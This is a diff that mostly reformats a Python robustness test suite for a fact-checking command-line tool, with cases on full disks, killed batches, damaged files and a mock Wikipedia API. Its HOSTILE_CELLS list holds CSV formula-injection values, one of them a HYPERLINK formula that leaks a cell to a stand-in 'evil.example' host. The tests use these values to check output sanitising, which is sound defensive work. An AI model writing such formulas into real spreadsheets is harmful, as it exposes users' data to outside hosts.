@@ -42,8 +42,14 @@ from fever_core.verification.model_integrity import weight_files
 from tests.conftest import local_api, recorded_answer, write_jsonl
 
 CLAIM = "Marie Curie won two Nobel Prizes."
-HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1",
-                 "\r=1+1"]
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
 """Claims a spreadsheet would run as formulas if written verbatim (OWASP's list)."""
 WIKIPEDIA_TIMEOUT_S = 2.0
 THREAD_WAIT_S = 3.0
@@ -195,16 +201,23 @@ def _judge(case: str, ran: Ran, expected: str, names: str = "", problem: str = "
 
 
 def batch_with_surrogates_and_formulas(ctx: Context) -> CaseOutcome:
-    listed = [{"claim": "Marie Curie won two Nobel \ud800Prizes."}, *({"claim": cell} for cell in HOSTILE_CELLS),
-              {"claim": CLAIM, "id": "=1+1"}]
+    listed = [
+        {"claim": "Marie Curie won two Nobel \ud800Prizes."},
+        *({"claim": cell} for cell in HOSTILE_CELLS),
+        {"claim": CLAIM, "id": "=1+1"},
+    ]
     claims = write_jsonl(ctx.workdir / "claims.jsonl", listed)  # "\ud800" as JSON escapes it
     out = ctx.workdir / "results.csv"
     data, check = ctx.check_options()
     ran = run_cli([*data, "check-batch", str(claims), *check, "--out", str(out)])
     rows = list(csv.reader(out.open(encoding="utf-8", newline=""))) if out.is_file() else []
     cells = [cell for row in rows[1:] for cell in row]
-    outcome = _judge("check-batch: a lone surrogate and formula cells", ran, "answer",
-                     figures=f"{max(0, len(rows) - 1)} of {len(listed)} rows written")
+    outcome = _judge(
+        "check-batch: a lone surrogate and formula cells",
+        ran,
+        "answer",
+        figures=f"{max(0, len(rows) - 1)} of {len(listed)} rows written",
+    )
     outcome.lost_rows = len(listed) - max(0, len(rows) - 1)
     outcome.formula_cells = sum(cell.startswith(FORMULA_STARTS) for cell in cells)
     if outcome.lost_rows or outcome.formula_cells:
@@ -217,8 +230,12 @@ def _killed_batch(ctx: Context, claims: Path, out: Path, kill_after_rows: int, w
     ``kill_after_rows`` claims are checked (counting those a rerun kept); returns the count it said."""
     data, check = ctx.check_options()
     env = {**os.environ, "PYTHONPATH": str(PROJECT_ROOT)}
-    child = subprocess.Popen([sys.executable, "-m", "fever_core", *data, "check-batch", str(claims), *check,
-                              "--out", str(out)], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    child = subprocess.Popen(
+        [sys.executable, "-m", "fever_core", *data, "check-batch", str(claims), *check, "--out", str(out)],
+        env=env,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.PIPE,
+    )
     total = len(claims.read_text(encoding="utf-8").splitlines())
     checked = [0]
     enough = threading.Event()
@@ -238,8 +255,9 @@ def _killed_batch(ctx: Context, claims: Path, out: Path, kill_after_rows: int, w
     return checked[0]
 
 
-def batch_killed_midway(ctx: Context, claims_count: int = 200, kill_after_rows: int = 3,
-                        wait_s: float = 600.0) -> CaseOutcome:
+def batch_killed_midway(
+    ctx: Context, claims_count: int = 200, kill_after_rows: int = 3, wait_s: float = 600.0
+) -> CaseOutcome:
     """check-batch in a child process, killed (SIGKILL) once its progress bar says ``kill_after_rows`` claims are
     checked, then run again with the same ``--out`` and killed two claims later: every row it finished must be whole in
     its results file, the rerun must have gone on from them (each claim once, in list order)."""
@@ -251,10 +269,14 @@ def batch_killed_midway(ctx: Context, claims_count: int = 200, kill_after_rows: 
     after_first = _whole_rows(out)
     second = _killed_batch(ctx, claims, out, after_first + 2, wait_s)
     ids = [json.loads(line)["id"] for line in out.read_text(encoding="utf-8").splitlines() if _is_json(line)]
-    outcome = CaseOutcome("check-batch killed mid-batch (SIGKILL), rerun, killed again", "rows kept",
-                          f"{len(ids)} whole rows in the file", round(time.perf_counter() - started, 1),
-                          figures=f"killed when its progress said {first}, then {second} of {claims_count} were "
-                                  f"checked; {after_first} rows after the first kill")
+    outcome = CaseOutcome(
+        "check-batch killed mid-batch (SIGKILL), rerun, killed again",
+        "rows kept",
+        f"{len(ids)} whole rows in the file",
+        round(time.perf_counter() - started, 1),
+        figures=f"killed when its progress said {first}, then {second} of {claims_count} were "
+        f"checked; {after_first} rows after the first kill",
+    )
     outcome.lost_rows = max(0, first - after_first) + max(0, second - len(ids))
     if outcome.lost_rows or not first:
         outcome.problem = f"{outcome.lost_rows} finished rows lost" if first else "it checked no claim"
@@ -293,12 +315,19 @@ def truncated_weights(ctx: Context) -> CaseOutcome:
     ran = run_cli([*data, "check", CLAIM, *check[:2], "--model", str(copy)])
     if ran.code == 0:  # a model that fails to load may be replaced by the shipped one, with a warning naming it
         named = str(copy) in ran.err
-        return _judge(case, ran, "answer", problem="" if named else "answered without a warning naming the damaged model")
+        return _judge(
+            case, ran, "answer", problem="" if named else "answered without a warning naming the damaged model"
+        )
     return _judge(case, ran, "message", str(copy))
 
 
-def _build_case(ctx: Context, case: str, prepare: Callable[[Path], list[str]], names: Callable[[Path], str],
-                expected: str = "message") -> CaseOutcome:
+def _build_case(
+    ctx: Context,
+    case: str,
+    prepare: Callable[[Path], list[str]],
+    names: Callable[[Path], str],
+    expected: str = "message",
+) -> CaseOutcome:
     """``corpus build`` (or what ``prepare`` returns) in a fresh data folder that ``prepare`` sets up."""
     data_dir = ctx.workdir / "data"
     ran = run_cli(["--data-dir", str(data_dir), *prepare(data_dir)])
@@ -323,20 +352,33 @@ def corpus_folder_is_a_file(ctx: Context) -> CaseOutcome:
 
 
 def long_corpus_name(ctx: Context) -> CaseOutcome:
-    return _build_case(ctx, "a 300-character corpus name",
-                       lambda d: ["corpus", "build", "x" * 300, "--source", f"fever:{ctx.pages}"], lambda d: "too long")
+    return _build_case(
+        ctx,
+        "a 300-character corpus name",
+        lambda d: ["corpus", "build", "x" * 300, "--source", f"fever:{ctx.pages}"],
+        lambda d: "too long",
+    )
 
 
 def huge_line_number_in_pages(ctx: Context) -> CaseOutcome:
-    pages = write_jsonl(ctx.workdir / "huge-line.jsonl", [*TINY_PAGES[:2], {"id": "Huge", "lines": f"{10**20}\tHuge ."}])
-    return _build_case(ctx, "a FEVER page's line number 10^20",
-                       lambda d: ["corpus", "build", "probe", "--source", f"fever:{pages}"], lambda d: f"{pages}:3")
+    pages = write_jsonl(
+        ctx.workdir / "huge-line.jsonl", [*TINY_PAGES[:2], {"id": "Huge", "lines": f"{10**20}\tHuge ."}]
+    )
+    return _build_case(
+        ctx,
+        "a FEVER page's line number 10^20",
+        lambda d: ["corpus", "build", "probe", "--source", f"fever:{pages}"],
+        lambda d: f"{pages}:3",
+    )
 
 
 def huge_line_number_in_evidence(ctx: Context) -> CaseOutcome:
     claims = ctx.workdir / "claims.jsonl"
-    claims.write_text(json.dumps({"id": 1, "claim": CLAIM, "label": "SUPPORTS",
-                                  "evidence": [[[1, 1, "Marie_Curie", 10**20]]]}) + "\n", encoding="utf-8")
+    claims.write_text(
+        json.dumps({"id": 1, "claim": CLAIM, "label": "SUPPORTS", "evidence": [[[1, 1, "Marie_Curie", 10**20]]]})
+        + "\n",
+        encoding="utf-8",
+    )
     data, check = ctx.check_options()
     ran = run_cli([*data, "evaluate", "--claims", str(claims), *check])
     return _judge("a claim's evidence line number 10^20", ran, "message", f"{claims}:1")
@@ -344,10 +386,15 @@ def huge_line_number_in_evidence(ctx: Context) -> CaseOutcome:
 
 def pages_not_utf8(ctx: Context) -> CaseOutcome:
     pages = ctx.workdir / "latin1.jsonl"
-    pages.write_bytes(json.dumps(TINY_PAGES[0]).encode() + b"\n" + '{"id": "Zürich", "lines": "0\\tZürich ."}\n'
-                      .encode("latin-1"))
-    return _build_case(ctx, "non-UTF-8 bytes in FEVER pages",
-                       lambda d: ["corpus", "build", "probe", "--source", f"fever:{pages}"], lambda d: f"{pages}:2")
+    pages.write_bytes(
+        json.dumps(TINY_PAGES[0]).encode() + b"\n" + '{"id": "Zürich", "lines": "0\\tZürich ."}\n'.encode("latin-1")
+    )
+    return _build_case(
+        ctx,
+        "non-UTF-8 bytes in FEVER pages",
+        lambda d: ["corpus", "build", "probe", "--source", f"fever:{pages}"],
+        lambda d: f"{pages}:2",
+    )
 
 
 def claims_not_utf8(ctx: Context) -> CaseOutcome:
@@ -367,9 +414,12 @@ def deep_json(ctx: Context) -> CaseOutcome:
 
 
 def built_in_sources_replaced(ctx: Context) -> CaseOutcome:
-    outcome = _build_case(ctx, "corpus build embedded --source fever:x.jsonl",
-                          lambda d: ["corpus", "build", "embedded", "--source", f"fever:{ctx.pages}"],
-                          lambda d: "built-in corpus")
+    outcome = _build_case(
+        ctx,
+        "corpus build embedded --source fever:x.jsonl",
+        lambda d: ["corpus", "build", "embedded", "--source", f"fever:{ctx.pages}"],
+        lambda d: "built-in corpus",
+    )
     if corpus_dir(ctx.workdir / "data", "embedded").exists() and not outcome.problem:
         outcome.problem = "the embedded corpus's folder was written"
     return outcome
@@ -416,8 +466,9 @@ def damaged_sources_list(ctx: Context) -> CaseOutcome:
         (corpus_dir(data_dir, "probe") / SOURCES_FILE).write_text(f'["fever:{ctx.pages}', encoding="utf-8")  # cut off
         return ["corpus", "info", "probe"]
 
-    return _build_case(ctx, "sources.json cut off mid-string", prepare,
-                       lambda d: str(corpus_dir(d, "probe") / SOURCES_FILE))
+    return _build_case(
+        ctx, "sources.json cut off mid-string", prepare, lambda d: str(corpus_dir(d, "probe") / SOURCES_FILE)
+    )
 
 
 def full_disk(ctx: Context) -> list[CaseOutcome]:
@@ -454,20 +505,44 @@ def full_disk(ctx: Context) -> list[CaseOutcome]:
     opened_ok = opened.code == 0 or "is full" in opened.said  # it can be read while its WAL index has room
     rows = list(csv.reader(io.StringIO(written, newline="")))[1:]
     torn = bool(written) and (not written.endswith("\r\n") or any(len(row) != len(RESULT_COLUMNS) for row in rows))
-    batch_outcome = _judge("full disk: check-batch --out", batch, "message", f"{out}: the disk holding it is full",
-                           problem="its last row is torn" if torn else "",
-                           figures=f"{len(rows)} whole rows of 12 when the disk filled")
+    batch_outcome = _judge(
+        "full disk: check-batch --out",
+        batch,
+        "message",
+        f"{out}: the disk holding it is full",
+        problem="its last row is torn" if torn else "",
+        figures=f"{len(rows)} whole rows of 12 when the disk filled",
+    )
     kept = finished.startswith(written) and len(list(csv.reader(io.StringIO(finished, newline="")))) == 13
-    rerun_outcome = _judge("full disk: the same batch with room again", rerun, "answer",
-                           problem="" if kept else "it did not go on from the rows written before")
+    rerun_outcome = _judge(
+        "full disk: the same batch with room again",
+        rerun,
+        "answer",
+        problem="" if kept else "it did not go on from the rows written before",
+    )
     outcomes = [
-        _judge("full disk: opening an intact corpus", opened, "answer" if opened.code == 0 else "message", "is full",
-               problem="" if unchanged and opened_ok else "the intact store was rewritten or called damaged"),
-        _judge("full disk: building a corpus", other, "message", "is full",
-               problem="its folder was left behind" if left else ""),
-        _judge("full disk: the same corpus with room again", again, "answer",
-               problem="" if unchanged else "the intact store was rewritten"),
-        batch_outcome, rerun_outcome,
+        _judge(
+            "full disk: opening an intact corpus",
+            opened,
+            "answer" if opened.code == 0 else "message",
+            "is full",
+            problem="" if unchanged and opened_ok else "the intact store was rewritten or called damaged",
+        ),
+        _judge(
+            "full disk: building a corpus",
+            other,
+            "message",
+            "is full",
+            problem="its folder was left behind" if left else "",
+        ),
+        _judge(
+            "full disk: the same corpus with room again",
+            again,
+            "answer",
+            problem="" if unchanged else "the intact store was rewritten",
+        ),
+        batch_outcome,
+        rerun_outcome,
     ]
     return outcomes
 
@@ -481,31 +556,51 @@ def read_only_live(ctx: Context) -> list[CaseOutcome]:
     out = data_dir / "results.csv"
     data, check = ctx.check_options()
     with read_only(data_dir):
-        live = run_cli(["--data-dir", str(data_dir), "check", CLAIM, "--corpus", "wikipedia", "--model", ctx.model],
-                       {"FEVER_WIKIPEDIA_API_URL": "http://127.0.0.1:9/w/api.php"})
+        live = run_cli(
+            ["--data-dir", str(data_dir), "check", CLAIM, "--corpus", "wikipedia", "--model", ctx.model],
+            {"FEVER_WIKIPEDIA_API_URL": "http://127.0.0.1:9/w/api.php"},
+        )
         built = run_cli(["--data-dir", str(data_dir), "corpus", "build", "probe", "--source", f"fever:{ctx.pages}"])
         batch = run_cli([*data, "check-batch", str(claims), *check, "--out", str(out)])
     return [
-        _judge("--corpus wikipedia on a read-only data folder", live, "message", str(corpus_dir(data_dir, "wikipedia"))),
+        _judge(
+            "--corpus wikipedia on a read-only data folder", live, "message", str(corpus_dir(data_dir, "wikipedia"))
+        ),
         _judge("corpus build --source fever:F on a read-only data folder", built, "message", str(data_dir)),
         _judge("check-batch --out on a read-only folder", batch, "message", str(out)),
     ]
 
 
-def _live_case(ctx: Context, case: str, answer: Callable[[dict[str, str]], bytes],
-               check: Callable[[Path], str] | None = None,
-               claim: str = "Ada Lovelace worked on the Analytical Engine.") -> CaseOutcome:
+def _live_case(
+    ctx: Context,
+    case: str,
+    answer: Callable[[dict[str, str]], bytes],
+    check: Callable[[Path], str] | None = None,
+    claim: str = "Ada Lovelace worked on the Analytical Engine.",
+) -> CaseOutcome:
     """``check --corpus wikipedia`` against a local ``api.php`` answering with ``answer(query)``: an answer within
     the timeout and a margin, and no Wikipedia call still running :data:`THREAD_WAIT_S` later."""
     data_dir = ctx.workdir / "live-data"
     before = set(threading.enumerate())
     with local_api(answer) as url:
-        ran = run_cli(["--data-dir", str(data_dir), "check", claim, "--corpus", "wikipedia", "--model", ctx.model,
-                       "--no-two-hop"],
-                      {"FEVER_WIKIPEDIA_API_URL": url, "FEVER_WIKIPEDIA_TIMEOUT_S": str(WIKIPEDIA_TIMEOUT_S)})
+        ran = run_cli(
+            [
+                "--data-dir",
+                str(data_dir),
+                "check",
+                claim,
+                "--corpus",
+                "wikipedia",
+                "--model",
+                ctx.model,
+                "--no-two-hop",
+            ],
+            {"FEVER_WIKIPEDIA_API_URL": url, "FEVER_WIKIPEDIA_TIMEOUT_S": str(WIKIPEDIA_TIMEOUT_S)},
+        )
         give_up = time.monotonic() + THREAD_WAIT_S
-        while (running := [t for t in threading.enumerate() if t.name == "wikipedia-call" and t not in before]) \
-                and time.monotonic() < give_up:
+        while (
+            running := [t for t in threading.enumerate() if t.name == "wikipedia-call" and t not in before]
+        ) and time.monotonic() < give_up:
             time.sleep(0.05)
     problem = f"{len(running)} Wikipedia calls still running {THREAD_WAIT_S:g} s after the check" if running else ""
     problem = problem or (check(data_dir) if check and ran.code == 0 else "")
@@ -515,9 +610,21 @@ def _live_case(ctx: Context, case: str, answer: Callable[[dict[str, str]], bytes
 def endless_continue(ctx: Context) -> CaseOutcome:
     def answer(query: dict[str, str]) -> bytes:
         if query.get("prop") == "links":
-            return json.dumps({"continue": {"plcontinue": f"974|0|{time.monotonic()}", "continue": "||"},
-                               "query": {"pages": {"974": {"pageid": 974, "ns": 0, "title": query.get("titles"),
-                                                           "links": [{"ns": 0, "title": "Charles Babbage"}]}}}}).encode()
+            return json.dumps(
+                {
+                    "continue": {"plcontinue": f"974|0|{time.monotonic()}", "continue": "||"},
+                    "query": {
+                        "pages": {
+                            "974": {
+                                "pageid": 974,
+                                "ns": 0,
+                                "title": query.get("titles"),
+                                "links": [{"ns": 0, "title": "Charles Babbage"}],
+                            }
+                        }
+                    },
+                }
+            ).encode()
         return json.dumps(recorded_answer(query)).encode()
 
     return _live_case(ctx, "Wikipedia: links that never stop (continue)", answer)
@@ -537,8 +644,9 @@ def huge_lead(ctx: Context) -> CaseOutcome:
         from fever_core.corpus.store import CorpusStore
 
         with CorpusStore.open(corpus_dir(data_dir, "wikipedia") / STORE_FILE) as store:
-            longest = max((sum(len(s.text) for s in store.page(page_id).sentences) for page_id, _ in store.titles()),
-                          default=0)
+            longest = max(
+                (sum(len(s.text) for s in store.page(page_id).sentences) for page_id, _ in store.titles()), default=0
+            )
         return "" if longest <= MAX_LEAD_CHARS else f"a lead of {longest:,} characters was kept"
 
     return _live_case(ctx, "Wikipedia: a 10 MB lead", answer, kept_cut)
@@ -568,9 +676,14 @@ def lost_keys(ctx: Context, source: Path, name: str) -> CaseOutcome:
     re_embedded = sum(encoded)
     spot_checks = SPOT_CHECK * -(-sentences // CHUNK)  # one spot check a chunk
     problem = "more than the spot checks embedded again" if re_embedded > spot_checks else ""
-    return _judge("dense_keys.npy deleted", ran, "answer", problem=problem,
-                  figures=f"{re_embedded:,} of {sentences:,} sentences embedded again (spot checks: at most "
-                          f"{spot_checks:,}), {ran.seconds:.1f} s")
+    return _judge(
+        "dense_keys.npy deleted",
+        ran,
+        "answer",
+        problem=problem,
+        figures=f"{re_embedded:,} of {sentences:,} sentences embedded again (spot checks: at most "
+        f"{spot_checks:,}), {ran.seconds:.1f} s",
+    )
 
 
 @dataclass
@@ -593,30 +706,57 @@ class MessagesResult:
         return not any(o.problem for o in self.outcomes)
 
     def rows(self) -> list[Row]:
-        rows = [("9 messages", "ok" if self.ok else "FAIL",
-                 (f"{len(self.outcomes)} cases: {self.tracebacks} tracebacks, {self.lost_rows} batch rows lost, "
-                 f"{sum(o.formula_cells for o in self.outcomes)} formula cells, "
-                 f"{sum(bool(o.problem) for o in self.outcomes)} problems; {len(self.skipped)} skipped"))]
+        rows = [
+            (
+                "9 messages",
+                "ok" if self.ok else "FAIL",
+                (
+                    f"{len(self.outcomes)} cases: {self.tracebacks} tracebacks, {self.lost_rows} batch rows lost, "
+                    f"{sum(o.formula_cells for o in self.outcomes)} formula cells, "
+                    f"{sum(bool(o.problem) for o in self.outcomes)} problems; {len(self.skipped)} skipped"
+                ),
+            )
+        ]
         for o in self.outcomes:
             said = o.problem or o.happened
-            rows.append((f"9 {o.case}", "FAIL" if o.problem else o.expected,
-                         f"{o.seconds:.1f} s: {said[:110]}" + (f" ({o.figures})" if o.figures else "")))
+            rows.append(
+                (
+                    f"9 {o.case}",
+                    "FAIL" if o.problem else o.expected,
+                    f"{o.seconds:.1f} s: {said[:110]}" + (f" ({o.figures})" if o.figures else ""),
+                )
+            )
         rows += [(f"9 {case}", "skipped", why) for case, why in self.skipped.items()]
         return rows
 
 
 CASES: list[Callable[[Context], CaseOutcome]] = [
-    batch_with_surrogates_and_formulas, truncated_weights, store_is_a_folder, corpus_folder_is_a_file,
-    long_corpus_name, huge_line_number_in_pages, huge_line_number_in_evidence, pages_not_utf8, claims_not_utf8,
-    deep_json, built_in_sources_replaced, damaged_sources_list, endless_continue, huge_lead, surrogate_search,
-    claim_id_an_object, claim_list_too_long, empty_history,
+    batch_with_surrogates_and_formulas,
+    truncated_weights,
+    store_is_a_folder,
+    corpus_folder_is_a_file,
+    long_corpus_name,
+    huge_line_number_in_pages,
+    huge_line_number_in_evidence,
+    pages_not_utf8,
+    claims_not_utf8,
+    deep_json,
+    built_in_sources_replaced,
+    damaged_sources_list,
+    endless_continue,
+    huge_lead,
+    surrogate_search,
+    claim_id_an_object,
+    claim_list_too_long,
+    empty_history,
 ]
 """The cases that need nothing but a folder of their own; :func:`run` adds the killed batch, the lost key file and
 the root-only ones."""
 
 
-def run(data_dir: Path, corpus: str, model: str, workdir: Path, keys_corpus: tuple[Path, str],
-        kill: bool = True) -> MessagesResult:
+def run(
+    data_dir: Path, corpus: str, model: str, workdir: Path, keys_corpus: tuple[Path, str], kill: bool = True
+) -> MessagesResult:
     """Every case, each in a folder of its own under ``workdir``. Claims are checked on ``corpus`` of ``data_dir``
     (only read) with the verifier ``model``; the lost-key case copies the folder of ``keys_corpus`` (its folder and
     name); ``kill``: run the killed batch too (a child process that loads the models)."""
